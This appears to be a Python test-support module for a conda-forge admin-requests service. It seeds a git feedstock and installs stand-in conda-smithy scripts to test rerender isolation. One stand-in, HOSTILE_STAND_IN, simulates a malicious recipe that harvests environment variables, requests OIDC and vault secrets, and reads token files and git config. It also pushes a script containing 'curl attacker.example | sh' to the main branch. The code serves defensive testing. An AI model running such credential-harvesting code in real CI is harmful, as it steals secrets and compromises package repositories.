"""A feedstock served over HTTP, a cirun-like render request, and stand-in conda-smithys.

conda-smithy cannot be installed here (PyPI has only a 0.0.0 placeholder), so scripts
take its place on the command line. ``RENDERING_STAND_IN`` writes what a rerender writes
(a variant config under .ci_support/, the workflow, a build script); ``HOSTILE_STAND_IN``
is what a feedstock's recipe could run during a rerender: it looks for every credential
the processing job holds and tries to use it. Neither is conda-smithy: what the real one
writes is not tested here.
"""

from __future__ import annotations

import stat
import subprocess
import sys
from pathlib import Path

from admin_requests.kinds.contract import FileEdit, RenderRequest

ORG = "conda-forge"
FEEDSTOCK = "foo-feedstock"
BRANCH = "admin-requests-cirun-0123456789"
TOKEN = "ghs_scoped_request_token_0123456789"
CONDA_FORGE_YML = b"provider: {linux_64: azure}\n"


def git(*args: str, cwd: Path) -> str:
    return subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", *args],
        cwd=cwd,
        check=True,
        capture_output=True,
        text=True,
    ).stdout.strip()


def seed_feedstock(root: Path) -> Path:
    """<root>/conda-forge/foo-feedstock.git with a recipe, conda-forge.yml, on 'main'."""
    bare = root / ORG / f"{FEEDSTOCK}.git"
    bare.parent.mkdir(parents=True, exist_ok=True)
    git("init", "--quiet", "--bare", "--initial-branch=main", str(bare), cwd=root)
    work = root / "seed"
    git("clone", "--quiet", str(bare), str(work), cwd=root)
    (work / "conda-forge.yml").write_bytes(CONDA_FORGE_YML)
    (work / "recipe").mkdir()
    (work / "recipe" / "meta.yaml").write_text("package: {name: foo, version: 1}\n")
    git("add", "-A", cwd=work)
    git("commit", "-qm", "seed", cwd=work)
    git("push", "--quiet", "origin", "HEAD:main", cwd=work)
    return bare


def use_runners(current: bytes | None) -> bytes | None:
    return (current or b"") + b"github_actions: {self_hosted: true}\n"


def set_labels(current: bytes | None) -> bytes | None:
    return b"github_actions_labels:\n- cirun-openstack-gpu-large\n"


EDITS = (
    FileEdit("conda-forge.yml", use_runners),
    FileEdit("recipe/conda_build_config.yaml", set_labels),
)
REQUEST = RenderRequest(FEEDSTOCK, BRANCH, EDITS)


def push_branch_with_edits(bare: Path, work: Path, edits: tuple[FileEdit, ...] = EDITS) -> None:
    """What the processing job does through the API: the branch, with the same edits."""
    git("clone", "--quiet", str(bare), str(work), cwd=bare.parent)
    for edit in edits:
        target = work / edit.path
        new = edit.change(target.read_bytes() if target.exists() else None)
        assert new is not None
        target.write_bytes(new)
    git("add", "-A", cwd=work)
    git("commit", "-qm", "Build on the cirun runners", cwd=work)
    git("push", "--quiet", "origin", f"HEAD:refs/heads/{BRANCH}", cwd=work)


RENDERING_STAND_IN = """\
#!{python}
import os, sys
from pathlib import Path
args = sys.argv[1:]
assert args[0] == "rerender" and "--no-check-uptodate" in args, args
directory = Path(args[args.index("--feedstock_directory") + 1])
if os.environ.get("SMITHY_MODE") == "fail":
    print("conda-smithy: the recipe does not render", file=sys.stderr)
    sys.exit(1)
(directory / ".ci_support").mkdir(exist_ok=True)
(directory / ".ci_support" / "linux_64_.yaml").write_text("github_actions_labels: [gpu]\\n")
(directory / ".github" / "workflows").mkdir(parents=True, exist_ok=True)
(directory / ".github" / "workflows" / "conda-build.yml").write_text("on: push\\n")
(directory / ".scripts").mkdir(exist_ok=True)
script = directory / ".scripts" / "build_steps.sh"
script.write_text("#!/bin/bash\\n")
script.chmod(0o755)
"""

# A recipe's code, run by a rerender: it hunts for credentials and uses what it finds.
HOSTILE_STAND_IN = """\
#!{python}
import json, os, subprocess, sys, urllib.request
from pathlib import Path
args = sys.argv[1:]
directory = Path(args[args.index("--feedstock_directory") + 1])
found = {{"environ": dict(os.environ), "requests": []}}

def call(url, headers):
    try:
        request = urllib.request.Request(url, headers=headers)
        with urllib.request.urlopen(request, timeout=10) as answer:
            found["requests"].append([url, answer.status])
    except Exception as exc:
        found["requests"].append([url, repr(exc)[:200]])

# The job's OIDC token, as actions/core asks for it; a hard-coded URL if none is given.
oidc = os.environ.get("ACTIONS_ID_TOKEN_REQUEST_URL", {oidc_url!r})
call(oidc + "&audience=vault",
     {{"Authorization": "bearer " + os.environ.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "")}})
# The vault: a login with whatever token is around, then the organisation's secrets.
vault = os.environ.get("VAULT_ADDR", {vault_url!r})
call(vault + "/v1/secret/data/admin-requests",
     {{"X-Vault-Token": os.environ.get("VAULT_TOKEN", "")}})
# conda-smithy's own token files, and the admin-requests checkout's git config.
home = Path(os.environ.get("HOME", "/nonexistent"))
found["home_tokens"] = sorted(str(p) for p in home.glob(".conda-smithy/*"))
found["git_config"] = subprocess.run(
    ["git", "config", "--list", "--show-origin"], cwd=directory,
    capture_output=True, text=True).stdout
# A script on the feedstock's default branch, pushed with whatever git holds.
(directory / "evil.sh").write_text("curl attacker.example | sh\\n")
subprocess.run(["git", "add", "-A"], cwd=directory)
subprocess.run(["git", "commit", "-qm", "evil"], cwd=directory)
push = subprocess.run(["git", "push", "origin", "HEAD:refs/heads/main"], cwd=directory,
                      capture_output=True, text=True)
found["push"] = [push.returncode, push.stderr[-300:]]
Path({report!r}).write_text(json.dumps(found))
"""


def install_stand_in(folder: Path, template: str, **values: str) -> Path:
    script = folder / "conda-smithy"
    folder.mkdir(parents=True, exist_ok=True)
    script.write_text(template.format(python=sys.executable, **values))
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    return script
